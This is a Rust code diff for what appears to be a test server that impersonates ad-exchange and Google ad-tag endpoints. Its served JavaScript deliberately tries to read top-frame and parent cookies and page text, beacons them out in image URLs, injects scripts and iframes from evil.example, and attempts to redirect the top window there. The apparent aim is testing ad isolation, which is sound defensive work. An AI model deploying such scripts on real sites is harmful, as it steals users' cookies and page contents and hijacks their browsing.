@@ -57,24 +57,50 @@ impl Handler for Playing {
     async fn handle<'r>(&self, request: &'r Request<'_>, data: Data<'r>) -> Outcome<'r> {
         let host = request.host().map(|h| h.domain().as_str().to_owned()).unwrap_or_default();
         let path = request.uri().path().as_str().to_owned();
+        let asked = request.uri().query().map(|query| query.as_str().to_owned()).unwrap_or_default();
+        let cookie = request.cookies().get("khaos").is_some();
         drop(data);
         self.0.lock().unwrap().push(Hit { host: host.clone(), path: path.clone() });
-        let (kind, body) = played(&host, &path);
+        let (kind, body) = played(&host, &path, &asked, cookie);
         let origin = request.headers().get_one("Origin").unwrap_or("*").to_owned();
-        let response = Response::build()
+        let mut answer = Response::build();
+        answer
             .status(Status::Ok)
             .header(kind)
             .raw_header("Access-Control-Allow-Origin", origin)
             .raw_header("Access-Control-Allow-Credentials", "true")
-            .sized_body(body.len(), std::io::Cursor::new(body))
-            .finalize();
+            .sized_body(body.len(), std::io::Cursor::new(body));
+        if host == EXCHANGE {
+            answer.raw_header("Set-Cookie", "khaos=1; Path=/; Secure; SameSite=None; Max-Age=86400");
+        }
+        let response = answer.finalize();
         let _: Option<DataOutcome<'_, String>> = None;
         Outcome::Success(response)
     }
 }
 
-/// What a vendor's address answers: scripts that behave like the originals.
-fn played(host: &str, path: &str) -> (ContentType, Vec<u8>) {
+/// Where an exchange is asked for an advertisement. It writes a cookie under its own name.
+const EXCHANGE: &str = "fastlane.rubiconproject.com";
+
+/// The answer of an exchange that was asked this, with its cookie or without: a script for a document, which says what it was
+/// asked, what it reaches from there, and writes another.
+fn exchanged(asked: &str, cookie: bool) -> Vec<u8> {
+    let asked: Vec<&str> = asked.split('&').filter(|word| !word.starts_with("rand=")).collect();
+    let script = "const said = (f) => { try { return String(f()) || 'nothing'; } catch (error) { return error.name; } };\
+                  new Image().src = 'https://pixel.rubiconproject.com/beacon/' + ['top=' + said(() => top.document.cookie),\
+                    'parent=' + said(() => parent.document.body.innerText), 'jar=' + said(() => document.cookie), 'cookie=COOKIE',\
+                    ...ASKED].join('/');\
+                  document.write('<scr' + 'ipt src=\"https://ads.rubiconproject.com/written.js\"></scr' + 'ipt>');\
+                  try { top.location = 'https://evil.example/taken'; } catch {}";
+    let script = script.replace("COOKIE", if cookie { "sent" } else { "none" });
+    let script = script.replace("ASKED", &serde_json::json!(asked).to_string());
+    let none = serde_json::json!({ "status": "no-ads" });
+    let ad = serde_json::json!({ "status": "ok", "impression_id": "a-1", "size_id": "15", "type": "script", "script": script });
+    serde_json::json!({ "status": "ok", "ads": [none, ad] }).to_string().into_bytes()
+}
+
+/// What a vendor's address answers, asked this with a cookie of its own or without: scripts that behave like the originals.
+fn played(host: &str, path: &str, asked: &str, cookie: bool) -> (ContentType, Vec<u8>) {
     let js = |text: &str| (ContentType::JavaScript, text.as_bytes().to_vec());
     // A script of Google's writes onto the parent domain, and again whenever its cookie is gone.
     let ga = "const put = () => { document.cookie = '_ga=GA1.1.7.8; path=/; max-age=63072000'; document.cookie = '_ga_TEST=GS1; path=/; max-age=63072000'; };\
@@ -95,11 +121,33 @@ fn played(host: &str, path: &str) -> (ContentType, Vec<u8>) {
                    new Image().src = 'https://googleads.g.doubleclick.net/pagead/ads/' + Object.entries(told).map(([k, v]) => k + '=' + encodeURIComponent(v)).join('/');\
                    const creative = document.createElement('iframe'); creative.src = 'https://evil.example/creative.html'; place.append(creative);\
                    try { top.location = 'https://evil.example/taken'; } catch {}";
+    // The publisher's tag: what is set before the slot is shown counts for it.
+    let gpt = "const said = (f) => { try { return String(f()) || 'nothing'; } catch (error) { return error.name; } };\
+               const from = new URL(document.currentScript.src).host;\
+               const told = {};\
+               const service = { setPrivacySettings: (all) => Object.assign(told, all) };\
+               Object.assign(window.googletag, {\
+                 pubads: () => service, enableServices() {}, enums: { TagForAgeTreatment: { UNSPECIFIED: 0, CHILD: 1, TEEN: 2 } },\
+                 setConfig: (all) => Object.assign(told, all.safeFrame),\
+                 defineSlot: (path, size) => { Object.assign(told, { path, size }); return { addService() {} }; },\
+                 display: (id) => {\
+                   const words = ['from=' + from, 'unit=' + told.path.replaceAll('/', '_'), 'size=' + told.size.join('x'), 'npa=' + told.nonPersonalizedAds,\
+                     'limited=' + told.limitedAds, 'rdp=' + told.restrictDataProcessing, 'age=' + told.tagForAgeTreatment, 'safe=' + told.forceSafeFrame,\
+                     'parent=' + said(() => parent.document.body.innerText), 'jar=' + said(() => document.cookie)];\
+                   new Image().src = 'https://ad.doubleclick.net/gampad/' + words.join('/');\
+                   const creative = document.createElement('iframe'); creative.src = 'https://evil.example/creative.html';\
+                   document.getElementById(id).append(creative);\
+                   try { top.location = 'https://evil.example/taken'; } catch {}\
+                 },\
+               });\
+               for (const run of window.googletag.cmd.splice(0)) run();";
     let creative = "<p>here<script>const said = (f) => { try { return String(f()) || 'nothing'; } catch (error) { return error.name; } };\
                     new Image().src = 'https://beacon.springserve.com/beacon/top=' + said(() => top.document.cookie) + '/jar=' + said(() => document.cookie);\
                     try { top.location = 'https://evil.example/taken'; } catch {}</script>";
     match (host, path) {
         ("pagead2.googlesyndication.com", "/pagead/js/adsbygoogle.js") => js(adsense),
+        ("securepubads.g.doubleclick.net" | "pagead2.googlesyndication.com", "/tag/js/gpt.js") => js(gpt),
+        (EXCHANGE, "/a/api/fastlane.json") => (ContentType::JSON, exchanged(asked, cookie)),
         ("evil.example", "/creative.html") => (ContentType::HTML, creative.as_bytes().to_vec()),
         ("www.googletagmanager.com", "/gtag/js") => js(ga),
         ("www.statcounter.com", "/counter/counter.js") => js(statcounter),
